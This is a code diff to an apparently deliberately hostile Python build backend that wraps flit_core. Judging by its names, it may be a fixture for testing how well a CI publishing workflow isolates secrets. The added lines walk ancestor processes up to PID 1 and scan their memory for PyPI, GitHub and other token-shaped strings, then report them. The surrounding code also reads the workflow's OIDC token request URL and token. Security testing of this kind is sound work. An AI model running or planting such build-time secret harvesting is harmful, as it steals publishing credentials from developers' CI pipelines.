@@ -6,6 +6,7 @@ secret it found), and tries to write into the workflow's file-command files.
 
 import json
 import os
+import re
 import urllib.request
 
 from flit_core import buildapi
@@ -19,7 +20,7 @@ def _report(what, data):
 
 def _ancestors():
     pid, seen = os.getppid(), []
-    while pid > 1 and pid not in seen:
+    while pid >= 1 and pid not in seen:  # pid 1 too: in a container, the action itself
         seen.append(pid)
         try:
             with open(f"/proc/{pid}/status") as status:
@@ -61,11 +62,9 @@ def _hunt():
             _report(f"ancestor-environ-closed-{pid}", "")
         memory = _try_memory(pid)
         if memory is not None:
-            _report(f"ancestor-memory-{pid}", str(len(memory)))
-            open_mem = os.environ.get("HOSTILE_MEMORY_DUMP")
-            if open_mem:
-                with open(open_mem, "ab") as dump:
-                    dump.write(memory)
+            # Everything in its memory shaped like a token.
+            tokens = sorted(set(re.findall(rb"(?:pypi-|ghs_|SECRET)[\w-]{8,}", memory)))
+            _report(f"ancestor-memory-{pid}", b"\n".join(tokens))
         else:
             _report(f"ancestor-memory-closed-{pid}", "")
     url, token = found_env.get("ACTIONS_ID_TOKEN_REQUEST_URL"), found_env.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
